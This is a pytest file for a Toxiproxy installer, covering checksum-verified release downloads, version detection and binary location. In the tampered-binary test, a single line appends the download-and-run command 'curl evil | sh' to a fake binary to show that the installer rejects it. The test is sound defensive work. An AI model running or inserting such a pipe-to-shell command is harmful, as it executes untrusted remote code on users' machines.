"""The Toxiproxy installer: version detection, the release download with checksum check, locating."""

from __future__ import annotations

import hashlib
import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from taxstorm.chaos.toxiproxy import install

FAKE_SERVER = "#!/bin/sh\necho 'toxiproxy-server version 2.12.0'\n"
FAKE_CLI = "#!/bin/sh\necho 'toxiproxy-cli version 2.12.0'\n"


@pytest.fixture(autouse=True)
def empty_user_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each test's own user cache: a Toxiproxy the machine's user cache holds must not answer for PATH."""
    monkeypatch.setenv("TAXSTORM_CACHE_DIR", str(tmp_path / "user-cache"))


@pytest.fixture
def release_site(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A local HTTP server laid out like the GitHub releases download path."""
    root = tmp_path / "site"
    folder = root / "v2.12.0"
    folder.mkdir(parents=True)
    sums = []
    for name, body in (("toxiproxy-server", FAKE_SERVER), ("toxiproxy-cli", FAKE_CLI)):
        asset = install._release_asset(name, "2.12.0")
        (folder / asset).write_text(body)
        sums.append(f"{hashlib.sha256(body.encode()).hexdigest()}  {asset}")
    (folder / "checksums.txt").write_text("\n".join(sums) + "\n")

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object, **kwargs: object) -> None:
            super().__init__(*args, directory=str(root), **kwargs)  # type: ignore[arg-type]

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", folder
    finally:
        server.shutdown()
        server.server_close()


def test_release_download_verifies_checksums(release_site: tuple[str, Path], tmp_path: Path) -> None:
    url, _ = release_site
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    install.download_release(bin_dir, "2.12.0", releases_url=url)
    assert install.server_version(bin_dir / "toxiproxy-server") == "2.12.0"
    assert (bin_dir / "toxiproxy-cli").stat().st_mode & 0o111


def test_release_download_refuses_a_tampered_binary(release_site: tuple[str, Path], tmp_path: Path) -> None:
    url, folder = release_site
    asset = folder / install._release_asset("toxiproxy-server", "2.12.0")
    asset.write_text(FAKE_SERVER + "curl evil | sh\n")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    with pytest.raises(install.ToxiproxyInstallError, match="does not match the release"):
        install.download_release(bin_dir, "2.12.0", releases_url=url)
    assert not (bin_dir / "toxiproxy-server").exists()


def test_locate_prefers_toxiproxy_server_env_and_skips_v1(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old = tmp_path / "old" / "toxiproxy-server"
    old.parent.mkdir()
    old.write_text("#!/bin/sh\necho 'toxiproxy-server version 1.2.1'\n")
    old.chmod(0o755)
    monkeypatch.setenv("TOXIPROXY_SERVER", str(old))
    monkeypatch.setenv("PATH", "/nonexistent")
    assert install.locate(tmp_path / "empty") is None

    new = tmp_path / "new" / "toxiproxy-server"
    new.parent.mkdir()
    new.write_text(FAKE_SERVER)
    new.chmod(0o755)
    monkeypatch.setenv("TOXIPROXY_SERVER", str(new))
    found = install.locate(tmp_path / "empty")
    assert found is not None and found.server == new and found.version == "2.12.0"
    assert found.source == "TOXIPROXY_SERVER"


def test_ensure_names_everything_it_tried(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TOXIPROXY_SERVER", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))  # no go, no toxiproxy
    monkeypatch.setattr(install, "download_release", _refused)
    with pytest.raises(install.ToxiproxyInstallError) as caught:
        install.ensure(tmp_path / "bin")
    message = str(caught.value)
    assert "no 'go' on PATH" in message and "release download" in message and "Fix:" in message


def _refused(bin_dir: Path, version: str) -> None:
    raise OSError("connection refused")


@pytest.mark.skipif(shutil.which("go") is None, reason="needs Go (the CI machine has it)")
def test_go_install_builds_a_v2_12_server_that_reports_its_version(tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    install._go_install(str(shutil.which("go")), bin_dir, "2.12.0")
    assert install.server_version(bin_dir / "toxiproxy-server") == "2.12.0"
    assert (bin_dir / "toxiproxy-cli").exists()


def test_no_search_installs_even_when_a_server_is_on_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--no-search`` (scripts/build-images.sh: the image needs a fresh static build) ignores what is present."""
    on_path = tmp_path / "path"
    on_path.mkdir()
    (on_path / "toxiproxy-server").write_text(FAKE_SERVER)
    (on_path / "toxiproxy-server").chmod(0o755)
    monkeypatch.delenv("TOXIPROXY_SERVER", raising=False)
    monkeypatch.setenv("PATH", str(on_path))  # a v2.12 server, but no go
    installed: list[Path] = []

    def fake_download(bin_dir: Path, version: str) -> None:
        installed.append(bin_dir)
        for name, body in (("toxiproxy-server", FAKE_SERVER), ("toxiproxy-cli", FAKE_CLI)):
            (bin_dir / name).write_text(body)
            (bin_dir / name).chmod(0o755)

    monkeypatch.setattr(install, "download_release", fake_download)
    bin_dir = tmp_path / "bin"
    assert install.ensure(bin_dir).source == "PATH" and installed == []  # found, so nothing installed
    assert install.main(["--no-search", "--bin-dir", str(bin_dir)]) == 0
    assert installed == [bin_dir] and "(release download)" in capsys.readouterr().out
    assert install.main(["--print-default-version"]) == 0
    assert capsys.readouterr().out.strip() == install.DEFAULT_VERSION
